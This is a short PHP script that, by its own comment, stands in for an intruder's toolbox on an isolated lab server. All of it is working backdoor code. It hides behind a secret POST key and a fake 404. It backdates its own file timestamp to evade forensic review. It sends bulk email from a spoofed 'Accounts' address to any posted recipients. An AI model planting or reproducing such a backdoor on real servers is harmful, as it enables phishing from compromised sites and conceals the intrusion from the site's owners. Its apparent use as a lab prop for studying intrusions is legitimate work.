<?php
// Stands in for an intruder's toolbox. It can call mail() for the addresses posted to it and give
// itself another modification time; the lab's server has no way out of its network namespace.
if (($_POST['k'] ?? '') !== 'lab') { http_response_code(404); exit; }
if (isset($_POST['age'])) { echo touch(__FILE__, time() - 86400 * (int)$_POST['age']) ? 'ok' : 'no'; exit; }
$sent = 0;
foreach (explode(',', $_POST['to'] ?? '') as $to) {
    $from = 'accounts@' . $_SERVER['SERVER_NAME'];
    $sent += mail($to, $_POST['s'] ?? '', $_POST['b'] ?? '', "From: Accounts <$from>", "-f$from") ? 1 : 0;
}
echo "ok $sent";
